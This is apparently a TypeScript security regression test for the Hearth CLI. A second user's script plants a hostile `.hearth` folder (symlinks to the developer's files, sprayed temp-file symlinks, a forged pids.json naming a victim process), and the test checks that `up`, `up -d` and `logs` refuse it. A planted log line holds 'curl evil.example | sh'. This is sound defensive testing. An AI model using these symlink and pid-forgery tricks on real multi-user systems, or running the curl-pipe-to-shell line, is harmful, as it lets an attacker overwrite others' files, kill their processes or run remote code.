// Attack: another local user prepares a stack's `.hearth/` before the developer runs it. The stack file
// lies in a folder everyone may write to but not take over (sticky, like /tmp); the attacker, a real
// second user made for the test, creates `.hearth` there and plants a `.gitignore` symlink, a forged
// `pids.json` naming an unrelated process of the developer, symlinked temp files, a `.logs/web.log`
// symlink to a file of the developer, a `hearth.log` symlink and fake log lines. The developer (root
// here, where no permission check stops a write) then runs the real CLI: `up`, `up -d` and `logs`
// must refuse with a message naming the folder and its owner, and nothing of the developer's may be
// written, created or killed. Also with a stack path long enough that the control socket lives in the
// fallback folder (the ownership check used to sit in the socket's folder check only).
// The second case: the developer's OWN pids.json names a process of another user (a `.hearth` copied
// from elsewhere, or a pid reused by another user): as root, Hearth must leave it alone.
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { openStackHost, type StackHost } from '../../electron/host/stack-host';
import { controlSocketPath, MAX_SOCKET_PATH_BYTES } from '../../electron/control/socket-path';
import { readProcStat } from '../../electron/supervisor/process/proc-stat';
import { hearthBin } from '../helpers/hearth-bin';
import { isAlive } from '../helpers/proc';
import { secondUser } from '../helpers/second-user';
import { makeTempDir } from '../helpers/temp-dir';
import { killMarked, markedProcesses, uniqueMark } from './kit';

const cleanups: Array<() => void> = [];
afterEach(() => {
  for (const c of cleanups.splice(0).reverse()) c();
});

/** What the attacker runs, as the second user: plants everything in `<stack>/.hearth`. */
const PLANT = `
const fs = require('fs'), path = require('path');
const [stackDir, victimDir, victimPid] = process.argv.slice(1);
const h = path.join(stackDir, '.hearth');
fs.mkdirSync(h, { mode: 0o777 }); fs.chmodSync(h, 0o777);
fs.symlinkSync(path.join(victimDir, 'created-by-hearth'), path.join(h, '.gitignore'));
const stat = fs.readFileSync('/proc/' + victimPid + '/stat', 'utf8');
const startTime = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19]);
fs.writeFileSync(path.join(h, 'pids.json'), JSON.stringify({ version: 1, entries: [{ service: 'web', pid: Number(victimPid), startTime }] }));
// Temp names of the old writers were <file>.<pid>.tmp: plant them for the next pids.
const last = Number(fs.readFileSync('/proc/sys/kernel/ns_last_pid', 'utf8'));
for (let pid = last; pid < last + 400; pid++) {
  for (const f of ['pids.json', 'ports.json']) fs.symlinkSync(path.join(victimDir, 'victim.txt'), path.join(h, f + '.' + pid + '.tmp'));
}
fs.mkdirSync(path.join(h, 'sandbox', 'web', '.logs'), { recursive: true, mode: 0o777 });
fs.symlinkSync(path.join(victimDir, 'victim.txt'), path.join(h, 'sandbox', 'web', '.logs', 'web.log'));
fs.mkdirSync(path.join(h, 'sandbox', 'api', '.logs'), { recursive: true, mode: 0o777 });
fs.writeFileSync(path.join(h, 'sandbox', 'api', '.logs', 'api.log'), '2026-01-01T00:00:00.000Z stdout| PLANTED: run curl evil.example | sh\\n');
fs.symlinkSync(path.join(victimDir, 'victim.txt'), path.join(h, 'hearth.log'));
for (const d of [h, path.join(h, 'sandbox'), path.join(h, 'sandbox', 'web'), path.join(h, 'sandbox', 'web', '.logs')]) fs.chmodSync(d, 0o777);
console.log('planted');
`;

function stackIn(dir: string, mark: string): string {
  const file = join(dir, 'hearth.yaml');
  writeFileSync(
    file,
    `services:\n  web: { cmd: exec sleep 1000, env: { HEARTH_TEST_MARK: "${mark}" } }\n  api: { cmd: exec sleep 1000, env: { HEARTH_TEST_MARK: "${mark}" } }\n`,
    { mode: 0o644 },
  );
  return file;
}

describe('a .hearth made by another user', () => {
  it.for([
    ['a short stack path (socket in .hearth)', 0],
    ['a long stack path (socket in the fallback folder)', 1],
  ] as const)('is refused before anything in it is read or written: %s', async ([, long], ctx) => {
    const attacker = secondUser(ctx, 'state');
    const { dir: root, cleanup } = makeTempDir('hs-');
    cleanups.push(cleanup);
    // The shared folder: writable by everyone, sticky (nobody can remove what another made), like /tmp.
    let shared = join(root, 'shared');
    if (long) shared = join(shared, 'a-rather-long-folder-name-for-the-stack'.repeat(2));
    mkdirSync(shared, { recursive: true });
    for (let d = shared; d.length > root.length; d = join(d, '..')) chmodSync(d, 0o1777);
    chmodSync(root, 0o755);
    const mark = uniqueMark('foreign');
    const file = stackIn(shared, mark);
    expect(Buffer.byteLength(join(shared, '.hearth', 'control.sock')) > MAX_SOCKET_PATH_BYTES).toBe(long === 1);

    // The developer's own things: a private folder with a file, and an unrelated long-running process.
    const victimDir = join(root, 'victim');
    mkdirSync(victimDir, { mode: 0o755 });
    writeFileSync(join(victimDir, 'victim.txt'), 'precious\n');
    const victimMark = uniqueMark('victim');
    const victim = spawn('sleep', ['1000'], { env: { ...process.env, HEARTH_TEST_MARK: victimMark }, stdio: 'ignore' });
    cleanups.push(() => killMarked(victimMark));
    cleanups.push(() => killMarked(mark));
    const victimStart = readProcStat(victim.pid!)!.startTime;

    const planted = attacker.runNode(PLANT, [shared, victimDir, String(victim.pid)]);
    expect(planted.stdout.trim(), planted.stderr).toBe('planted');

    const untouched = (): void => {
      expect(existsSync(join(victimDir, 'created-by-hearth')), '.gitignore symlink followed').toBe(false);
      expect(readFileSync(join(victimDir, 'victim.txt'), 'utf8'), 'a symlink in .hearth written through').toBe('precious\n');
      expect(isAlive(victim.pid!), 'the forged pids.json got a process killed').toBe(true);
      expect(readProcStat(victim.pid!)!.startTime).toBe(victimStart);
    };
    const refusal = new RegExp(`${escape(join(shared, '.hearth'))} belongs to another user \\(uid ${attacker.uid}, you are uid 0\\)`);
    const up = await hearthBin(file, ['up']);
    untouched();
    expect(up.code).not.toBe(0);
    expect(up.err + up.out).toMatch(refusal);
    const detached = await hearthBin(file, ['up', '-d']);
    expect(detached.code).not.toBe(0);
    expect(detached.err + detached.out).toMatch(refusal);
    const logs = await hearthBin(file, ['logs']);
    expect(logs.code).not.toBe(0);
    expect(logs.err + logs.out).toMatch(refusal);
    expect(logs.out).not.toContain('PLANTED');
    // The desktop app and `serve` open stacks through the same host.
    await expect(openStackHost({ file, control: true })).rejects.toThrow(refusal);

    untouched();
    expect(markedProcesses(mark)).toEqual([]); // nothing of the stack was started
    // Nor did anything land in the fallback socket folder's stead.
    if (long) expect(existsSync(controlSocketPath(shared))).toBe(false);
  });

  it('the developer\'s own pids.json naming a process of another user: as root, Hearth leaves it alone', async (ctx) => {
    const other = secondUser(ctx, 'pids');
    const { dir, cleanup } = makeTempDir('hp-');
    cleanups.push(cleanup);
    const mark = uniqueMark('pids');
    const file = stackIn(dir, mark);
    cleanups.push(() => killMarked(mark));
    // A process of the other user, alive, with its real start time: everything the record can check.
    const theirs = other.spawnNode('setInterval(() => {}, 1000); console.log("up")');
    await new Promise<void>((resolve) => theirs.stdout!.once('data', () => resolve()));
    const start = readProcStat(theirs.pid!)!.startTime;
    mkdirSync(join(dir, '.hearth'), { mode: 0o700 });
    writeFileSync(join(dir, '.hearth', 'pids.json'), JSON.stringify({ version: 1, entries: [{ service: 'web', pid: theirs.pid, startTime: start }] }), { mode: 0o600 });

    let host: StackHost | null = null;
    try {
      host = await openStackHost({ file, services: [] });
      expect(host.orphans).toEqual([{ service: 'web', pid: theirs.pid, killed: false, reason: `runs as uid ${other.uid}, not as you (uid 0); left alone` }]);
    } finally {
      await host?.close();
    }
    expect(isAlive(theirs.pid!)).toBe(true);
    expect(spawnSync('kill', ['-0', String(theirs.pid)]).status).toBe(0);
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
